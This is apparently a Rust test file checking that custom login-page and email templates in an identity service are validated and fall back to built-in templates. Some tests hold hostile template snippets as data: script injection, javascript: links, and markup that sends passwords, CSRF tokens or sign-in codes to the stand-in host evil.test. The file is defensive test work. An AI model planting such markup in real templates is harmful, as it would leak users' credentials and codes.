//! Looks of a realm's own: what they may hold, that they are shown, and that the built-in one stands in where they fail.
#![expect(clippy::unwrap_used, clippy::panic, reason = "helpers of tests fail loudly")]

mod fixtures;

use std::sync::Arc;

use serde_json::{Value, json};
use vestibule_kernel::contact::{Email, Locale};
use vestibule_realms::{
    LookRules,
    theme::{Theme, ThemeFault},
};
use vestibule_storage::jobs::MessageKind;
use vestibule_templates::{
    LookBook, Mails, PageContext, Pages, Rendered, samples,
    views::{Form, PasswordPage, SignedOutPage, Ways},
};
use vestibule_usecases::{
    Look, RealmSnapshot,
    ports::{MessageRenderer, Recipient},
};

fn pages() -> Arc<Pages> {
    Arc::new(Pages::new(&fixtures::public_url()))
}

fn theme(value: Value) -> Theme {
    serde_json::from_value(value).unwrap()
}

fn faults(value: Value) -> Vec<ThemeFault> {
    LookBook::new(pages()).faults(&theme(value))
}

fn realm(value: Value) -> RealmSnapshot {
    fixtures::realm().with_look(Look::new(theme(value)))
}

const BUILT_IN: &str = include_str!("../../../../themes/default/templates/signed_out.html");

/// The built-in page with a sentence of one's own.
fn with_sentence(markup: &str) -> String {
    BUILT_IN.replace("</h1>", &format!("</h1>{markup}"))
}

fn sample(pages: &Pages, realm: &RealmSnapshot, name: &str) -> String {
    let sample = samples::pages().into_iter().find(|sample| sample.name == name).unwrap();
    let locale = Locale::english();
    let context = PageContext {
        realm: Some(realm),
        locale: &locale,
        chooser: None,
        nonce: "n",
        request_id: "r",
        stylesheet: None,
    };
    pages.render_sample(&sample, context).unwrap()
}

fn signed_out(pages: &Pages, realm: &RealmSnapshot) -> Rendered {
    let view = SignedOutPage { sign_in: "/login".to_owned(), app: None, back: None };
    let locale = Locale::english();
    let context = PageContext {
        realm: Some(realm),
        locale: &locale,
        chooser: None,
        nonce: "n",
        request_id: "r",
        stylesheet: None,
    };
    pages.render(&view, context).unwrap()
}

#[test]
fn a_built_in_page_keeps_the_contract() {
    assert_eq!(faults(json!({"templates": {"signed_out.html": BUILT_IN}})), []);
}

#[test]
fn a_template_of_its_own_is_shown_with_the_texts_of_the_theme() {
    let own = with_sentence("<p class=\"own\">See you at {{ site.name }}.</p>");
    let look = json!({"templates": {"signed_out.html": own}, "copy": {"en": {"signed-out-title": "Ciao"}}});
    assert_eq!(faults(look.clone()), []);
    let (pages, realm) = (pages(), realm(look));
    let Rendered { html, failed } = signed_out(&pages, &realm);
    assert_eq!(failed, None);
    assert!(
        html.contains("<p class=\"own\">See you at Acme.</p>") && html.contains("<title>Ciao – Acme</title>"),
        "{html}"
    );
    // Only there.
    assert!(!sample(&pages, &realm, "identify").contains("See you at"));
}

#[test]
fn what_a_template_lacks_or_adds_is_told_with_the_page_it_fails() {
    let identify = "{% extends \"card.html\" %}{% block title %}x{% endblock %}{% block main %}<h1>Hi</h1>{% endblock %}";
    let told = faults(json!({"templates": {"identify.html": identify}}));
    assert!(told.iter().all(|fault| fault.pointer == "/templates/identify.html"), "{told:?}");
    assert!(told.iter().any(|fault| fault.detail.contains("id=\"username\"")), "{told:?}");
    for (markup, word) in [
        ("<script>alert(1)</script>", "script"),
        ("{{ page.nothing }}", "undefined"),
        ("<p onclick=\"x()\">x</p>", "onclick"),
        ("{% set x = 1 %}", "set is not used"),
        ("{{ t(\"no-such-text\") }}", "no-such-text"),
    ] {
        let told = faults(json!({"templates": {"signed_out.html": with_sentence(markup)}}));
        assert!(told.iter().any(|fault| fault.detail.contains(word)), "{word}: {told:?}");
    }
    for name in ["base.html", "parts.html", "setup.html", "../x", "emails/nothing/text.txt"] {
        let told = faults(json!({"templates": {name: "x"}}));
        assert_eq!(told[0].detail, "there is no such template", "{name}");
    }
}

#[test]
fn a_frame_of_its_own_is_tried_on_every_page() {
    let ours = include_str!("../../../../themes/default/templates/card.html");
    let own = ours.replace("{%- set above = slot(\"above_form\") %}{% set below = slot(\"below_form\") %}{% set side = slot(\"side_panel\") %}\n", "");
    let own = own
        .replace("{% if side %} beside{% endif %}", " mine")
        .replace(
            "{%- if side %}\n<aside class=\"side slot\" dir=\"auto\">{{ side }}</aside>\n{%- endif %}\n",
            "",
        )
        .replace("{%- if above %}\n<div class=\"slot\" dir=\"auto\">{{ above }}</div>\n{%- endif %}\n", "")
        .replace("{%- if below %}\n<div class=\"slot\" dir=\"auto\">{{ below }}</div>\n{%- endif %}\n", "");
    assert_eq!(faults(json!({"templates": {"card.html": own}})), []);
    assert!(
        sample(&pages(), &realm(json!({"templates": {"card.html": own}})), "identify").contains("stage mine")
    );
    let without = own.replace("{% block main %}{% endblock %}", "");
    let told = faults(json!({"templates": {"card.html": without}}));
    assert!(told.iter().any(|fault| fault.detail.contains("page identify")), "{told:?}");
}

#[test]
fn where_a_template_fails_the_built_in_one_is_shown_and_it_is_told_once() {
    let (pages, deep) = (pages(), "{% for a in page.scopes %}".repeat(12));
    let ends = "{% endfor %}".repeat(12);
    let realm = realm(json!({"templates": {
        "signed_out.html": "{{ page.nothing }}",
        "consent.html": format!("{deep}x{ends}"),
    }}));
    let first = signed_out(&pages, &realm);
    assert!(first.html.contains("id=\"sign-in-again\""), "{}", first.html);
    let failed = first.failed.unwrap();
    assert_eq!(
        (failed.template, failed.cause.as_str()),
        ("signed_out.html", "UndefinedError in signed_out.html:1")
    );
    assert_eq!(signed_out(&pages, &realm).failed, None);
    // One that never ends has no more fuel.
    assert!(sample(&pages, &realm, "consent").contains("id=\"consent-accept\""));
}

#[test]
fn slots_are_filled_in_the_language_of_the_page() {
    let look = json!({"slots": {
        "head_note": {"en": "Closed on **Monday**"}, "above_form": {"en": "Hello from {realm}"},
        "below_form": {"de": "nur hier"}, "footer": {"en": "[Imprint](https://acme.test/imprint)"},
        "side_panel": {"en": "Beside"}, "consent_note": {"en": "Ask {app} first"},
    }});
    assert_eq!(faults(look.clone()), []);
    assert_eq!(faults(json!({"slots": {"footer": {"pt": "x"}}})).len(), 1);
    let (pages, realm) = (pages(), realm(look));
    let html = sample(&pages, &realm, "consent");
    for part in [
        "<p>Closed on <strong>Monday</strong></p>",
        "<p>Hello from Acme</p>",
        "<a href=\"https://acme.test/imprint\">Imprint</a>",
        "<aside class=\"side slot\" dir=\"auto\"><p>Beside</p></aside>",
        "<p>Ask Globex Analytics first</p>",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(!html.contains("nur hier"));
}

const SUBJECT: &str = "Your {{ realm }} code";
const TEXT: &str = "Use {{ data.code }} within {{ data.minutes }} minutes\
    {% if data.link is defined %} or {{ data.link }}{% endif %}";
const BODY: &str = "{% extends \"layout.html\" %}{% import \"parts.html\" as parts %}{% block main %}\
    {{ parts.heading(\"Hello\") }}{{ parts.code(brand, data.code) }}\
    {% if data.link is defined %}{{ parts.button(brand, data.link, \"Go\") }}{% endif %}{% endblock %}";

fn mail(subject: &str, text: &str, body: &str) -> Value {
    json!({
        "templates": {
            "emails/sign_in_code/subject.txt": subject, "emails/sign_in_code/text.txt": text,
            "emails/sign_in_code/body.html": body,
        },
        "slots": {"mail_footer": {"en": "Made by {realm}"}},
    })
}

#[test]
fn a_mail_of_its_own_is_sent() {
    let look = mail(SUBJECT, TEXT, BODY);
    assert_eq!(faults(look.clone()), []);
    let realm = realm(look);
    let to = Recipient { to: Email::parse("ada@acme.test").unwrap(), name: None, locale: None };
    let mails = Mails::new(&pages());
    let data = samples::message_data(MessageKind::SignInCode, &realm.issuer);
    let sent = mails.render(&realm, &to, MessageKind::SignInCode, &data, "id".to_owned()).unwrap();
    assert_eq!(sent.subject, "Your Acme code");
    let begins = "Use 482913 within 10 minutes or http://localhost:8080/realms/acme/";
    assert!(sent.text.starts_with(begins), "{}", sent.text);
    assert!(sent.html.contains("Hello") && sent.html.contains("482913"), "{}", sent.html);
    assert!(sent.html.contains("<p>Made by Acme</p>"), "{}", sent.html);
    let other = mails.render(&realm, &to, MessageKind::MailTest, &serde_json::Map::new(), String::new());
    assert!(other.unwrap().text.contains("Made by Acme"));
}

#[test]
fn a_mail_keeps_its_code_and_its_links_and_brings_no_others() {
    let beside = |markup: &str| BODY.replace("{{ parts.heading", &format!("{markup}{{{{ parts.heading"));
    let button = "{% if data.link is defined %}{{ parts.button(brand, data.link, \"Go\") }}{% endif %}";
    for (bad, word) in [
        (mail("{{ data.nothing }}", TEXT, BODY), "undefined"),
        (mail(" ", TEXT, BODY), "not empty"),
        (mail(SUBJECT, "no code", BODY), "482913"),
        (mail(SUBJECT, &format!("{TEXT} https://evil.test/x"), BODY), "stays with the realm"),
        (mail(SUBJECT, TEXT, &BODY.replace(button, "")), "flow/confirm"),
        (mail(SUBJECT, TEXT, &beside("<img src=\"https://evil.test/p.png\">")), "img"),
        (mail(SUBJECT, TEXT, &beside("<a href=\"https://evil.test/\">x</a>")), "stays with the realm"),
        (mail(SUBJECT, TEXT, &beside("<form action=\"/x\"></form>")), "no form"),
    ] {
        let told = faults(bad);
        assert!(told.iter().any(|fault| fault.detail.contains(word)), "{word}: {told:?}");
    }
}

/// A page of somebody else than the samples are about.
fn password_of(pages: &Pages, realm: &RealmSnapshot, name: &str) -> Rendered {
    let form = Form { action: "/flow/1".to_owned(), csrf: "vcf_x".to_owned(), step: 1 };
    let view = PasswordPage {
        form,
        app: None,
        username: name.to_owned(),
        ways: Ways::default(),
        reason: None,
        errors: vec![],
    };
    let locale = Locale::english();
    let context = PageContext {
        realm: Some(realm),
        locale: &locale,
        chooser: None,
        nonce: "n",
        request_id: "r",
        stylesheet: None,
    };
    pages.render(&view, context).unwrap()
}

#[test]
fn a_template_that_is_another_for_others_than_the_samples_is_not_shown_to_them() {
    const PAGE: &str = include_str!("../../../../themes/default/templates/password.html");
    let only = |markup: &str| {
        PAGE.replace(
            "</h1>",
            &format!("</h1>{{% if page.username != \"ada@acme.test\" %}}{markup}{{% endif %}}"),
        )
    };
    for evil in [
        "<script>steal()</script>",
        "<scr{{ \"\" }}ipt src=\"/a.js\"></script>",
        "<a href=\"javascript:steal()\">x</a>",
        "<a href=\"https://evil.test/{{ page.form.csrf }}\">x</a>",
        "<img src=\"https://evil.test/a.png\">",
        "<form method=\"post\" action=\"https://evil.test\"><input name=\"password\"></form>",
        "<p onclick=\"steal()\">x</p>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test\">",
    ] {
        let look = json!({"templates": {"password.html": only(evil)}});
        let (pages, realm) = (pages(), realm(look));
        let Rendered { html, failed } = password_of(&pages, &realm, "bob@acme.test");
        assert!(failed.is_some(), "{evil}");
        assert!(
            !html.contains("evil") && !html.contains("steal") && html.contains("name=\"password\""),
            "{html}"
        );
        assert_eq!(password_of(&pages, &realm, "ada@acme.test").failed, None, "{evil}");
    }
    // Without its field a page is not that page.
    let own = PAGE
        .replace("{% block main %}", "{% block main %}{% if page.username != \"bob\" %}<h1>x</h1>{% else %}");
    let own = own.replacen(
        "{% endblock %}\n{% block script %}",
        "{% endif %}{% endblock %}\n{% block script %}",
        1,
    );
    let made = password_of(&pages(), &realm(json!({"templates": {"password.html": own}})), "ada");
    assert!(made.failed.is_some() && made.html.contains("name=\"password\""), "{}", made.html);
    // What is the same page in other words is shown to everybody.
    let own = only("<p>Welcome, <b>{{ page.username }}</b>. <a href=\"https://acme.test/help\">Help</a></p>");
    let made = password_of(&pages(), &realm(json!({"templates": {"password.html": own}})), "bob@acme.test");
    assert!(made.failed.is_none() && made.html.contains("Welcome, <b>bob@acme.test</b>"), "{}", made.html);
    // And whoever says it right away is not kept at all.
    let told =
        faults(json!({"templates": {"password.html": only("<script nonce=\"{{ nonce }}\"></script>")}}));
    assert!(told[0].detail.contains("nonce"), "{told:?}");
}

#[test]
fn a_mail_that_gives_its_code_away_to_others_than_the_samples_is_not_sent() {
    const BODY: &str = include_str!("../../../../themes/default/emails/sign_in_code/body.html");
    const TEXT: &str = include_str!("../../../../themes/default/emails/sign_in_code/text.txt");
    let only = |markup: &str| format!("{{% if data.code != \"482913\" %}}{markup}{{% endif %}}");
    let sent = |look: Value| {
        let (mails, realm) = (Mails::new(&pages()), realm(look));
        let to = Email::parse("bob@acme.test").unwrap();
        let to = Recipient { to, name: None, locale: None };
        let mut data = samples::message_data(MessageKind::SignInCode, &realm.issuer);
        data.insert("code".to_owned(), json!("731905"));
        mails.render(&realm, &to, MessageKind::SignInCode, &data, "id".to_owned()).unwrap()
    };
    for evil in [
        "<img src=\"https://evil.test/{{ data.code }}.png\">",
        "<p style=\"background:url(https://evil.test/{{ data.code }})\">x</p>",
        "<p>evil.test/{{ data.code }}</p>",
        "<a href=\"https://evil.test/{{ data.code }}\">x</a>",
    ] {
        let own = BODY.replacen("{% block main %}", &format!("{{% block main %}}{}", only(evil)), 1);
        assert_ne!(own, BODY);
        let mail = sent(json!({"templates": {"emails/sign_in_code/body.html": own}}));
        assert!(!mail.html.contains("evil") && mail.html.contains("731905"), "{evil}: {}", mail.html);
    }
    let own = format!("{TEXT}{}", only("https://evil.test/{{ data.code }}"));
    let mail = sent(json!({"templates": {"emails/sign_in_code/text.txt": own}}));
    assert!(!mail.text.contains("evil") && mail.text.contains("731905"), "{}", mail.text);
    let own = format!("{TEXT}{}", only("See you, {{ account }}."));
    let mail = sent(json!({"templates": {"emails/sign_in_code/text.txt": own}}));
    assert!(mail.text.contains("See you, bob@acme.test."), "{}", mail.text);
}
